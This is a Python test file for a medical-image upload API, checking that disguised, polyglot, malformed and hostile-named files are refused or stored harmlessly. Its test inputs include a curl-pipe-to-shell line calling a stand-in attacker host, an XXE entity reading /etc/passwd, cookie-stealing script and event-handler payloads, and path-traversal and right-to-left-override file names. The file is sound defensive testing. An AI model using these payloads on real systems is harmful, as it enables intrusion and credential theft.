"""More hostile uploads at the API level, beside tests/samples/test_hostile.py (28 files + 4 mixes) and
tests/imaging/test_hostile.py: other formats in disguise, polyglots, hostile file names, broken forms.
Each is refused with a clear 4xx and nothing stored, or accepted and stored harmlessly; never a 5xx."""

import gzip
import io
import struct
import zlib
from collections.abc import Callable
from typing import Any

import httpx
import pytest
from PIL import Image
from sqlalchemy.ext.asyncio import AsyncSession

from tagmedx.config import Settings
from tagmedx.models import Sample
from tests.imaging.helpers import dicom_pixel_length
from tests.samples.helpers import count, jpeg, make_world, png, png_chunk, stored_files, upload, zip_of

pytestmark = pytest.mark.anyio


def pillow(kind: str, **options: Any) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), "blue").save(buffer, format=kind, **options)
    return buffer.getvalue()


def png_with_bad_crc() -> bytes:
    data = bytearray(png(16, 16))
    data[29] ^= 0xFF  # the IHDR checksum
    return bytes(data)


def png_declaring_zero_width() -> bytes:
    ihdr = struct.pack(">IIBBBBB", 0, 16, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", zlib.compress(b""))
        + png_chunk(b"IEND", b"")
    )


def jpeg_declaring_zero_size() -> bytes:
    data = bytearray(jpeg(16, 16))
    position = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, position + 5, 0, 0)
    return bytes(data)


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56) + b"\x90" * 200
SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"
XXE = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
DICM_THEN_HTML = bytes(128) + b"DICM" + HTML * 20

# name, bytes, the browser's claimed type, expected status
REFUSED: list[tuple[str, Callable[[], bytes], str, int]] = [
    ("scan.tif", lambda: pillow("TIFF"), "image/tiff", 415),
    ("scan.bmp", lambda: pillow("BMP"), "image/bmp", 415),
    ("scan.webp", lambda: pillow("WEBP"), "image/webp", 415),
    ("scan.ico", lambda: pillow("ICO"), "image/x-icon", 415),
    ("tool.dcm", lambda: ELF, "application/dicom", 415),
    ("run.jpg", lambda: SCRIPT, "image/jpeg", 415),
    ("entity.dcm", lambda: XXE, "application/dicom", 415),
    ("page.PNG", lambda: HTML, "image/png", 415),
    ("packed.dcm", lambda: gzip.compress(png()), "application/dicom", 415),
    ("crc.png", png_with_bad_crc, "image/png", 422),
    ("zero.png", png_declaring_zero_width, "image/png", 422),
    ("zero.jpg", jpeg_declaring_zero_size, "image/jpeg", 422),
    ("fake.dcm", lambda: DICM_THEN_HTML, "application/dicom", 422),
    ("length.dcm", lambda: dicom_pixel_length(0xFFFFFFF0), "application/dicom", 422),
    (
        "web.zip",
        lambda: zip_of({"index.html": HTML, "x.svg": b"<svg onload=alert(1)>"}),
        "application/zip",
        422,
    ),
]


@pytest.mark.parametrize(("name", "build", "claimed", "status"), REFUSED, ids=[case[0] for case in REFUSED])
async def test_disguised_and_broken_files_are_refused(
    client: httpx.AsyncClient,
    session: AsyncSession,
    settings: Settings,
    name: str,
    build: Callable[[], bytes],
    claimed: str,
    status: int,
) -> None:
    world = await make_world(session)
    response = await upload(client, world.admin, world.set_id, (name, build()), content_type=claimed)
    assert response.status_code == status, response.text
    assert len(response.json()["detail"]) > 15
    assert await count(session, Sample) == 0
    assert stored_files(settings.data_dir / "images") == set()


async def test_a_png_html_polyglot_is_only_ever_served_as_an_inert_image(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    world = await make_world(session)
    polyglot = png() + HTML
    response = await upload(client, world.admin, world.set_id, ("poly.png", polyglot))
    if response.status_code != 201:  # refusing trailing data is fine too
        assert response.status_code in (415, 422)
        return
    sample_id = response.json()["created"][0]["id"]
    for rendition in ("image", "original", "thumbnail"):
        served = await client.get(f"/api/samples/{sample_id}/{rendition}", headers=world.admin.headers)
        assert served.status_code == 200
        assert served.headers["content-type"] in ("image/png", "image/jpeg", "image/webp")
        assert served.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in served.headers["content-security-policy"]


@pytest.mark.parametrize(
    "filename",
    [
        "../../../../etc/cron.d/evil.png",
        "..\\..\\windows\\evil.png",
        "/absolute/evil.png",
        '<img src=x onerror="alert(1)">.png',
        "a\u202egnp.exe",  # right-to-left override
        "x" * 5000 + ".png",
        "   ",
    ],
)
async def test_hostile_file_names_never_leave_the_store_or_break_the_answer(
    client: httpx.AsyncClient, session: AsyncSession, settings: Settings, filename: str
) -> None:
    world = await make_world(session)
    response = await upload(client, world.admin, world.set_id, (filename, png(seed=len(filename))))
    assert response.status_code in (201, 400, 422), response.text
    assert response.headers["content-type"] == "application/json"
    root = settings.data_dir.resolve()
    for path in stored_files(root):
        assert (root / path).resolve().is_relative_to(root)
    if response.status_code == 201:
        stored = response.json()["created"][0]["filename"]
        assert len(stored) <= 255
        assert not stored.startswith(("/", "\\")) and ".." not in stored.replace("\\", "/").split("/")


async def test_a_png_claimed_as_dicom_is_judged_by_its_content(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    world = await make_world(session)
    response = await upload(
        client, world.admin, world.set_id, ("study.dcm", png()), content_type="application/dicom"
    )
    assert response.status_code == 201, response.text
    assert response.json()["created"][0]["format"] == "png"


@pytest.mark.parametrize(
    "arguments",
    [
        {"files": {"other": ("a.png", b"\x89PNG", "image/png")}},
        {"data": {"files": "not a file"}},
        {"json": {"files": ["a.png"]}},
        {"content": b"--nope\r\n\r\n", "headers": {"Content-Type": "multipart/form-data; boundary=other"}},
        {"content": b"", "headers": {"Content-Type": "multipart/form-data"}},
    ],
    ids=["wrong-field", "text-field", "json", "bad-boundary", "no-boundary"],
)
async def test_broken_forms_are_4xx(
    client: httpx.AsyncClient, session: AsyncSession, arguments: dict[str, Any]
) -> None:
    world = await make_world(session)
    headers = world.admin.headers | arguments.pop("headers", {})
    response = await client.post(f"/api/sets/{world.set_id}/samples", headers=headers, **arguments)
    assert 400 <= response.status_code < 500, response.text
    assert await count(session, Sample) == 0
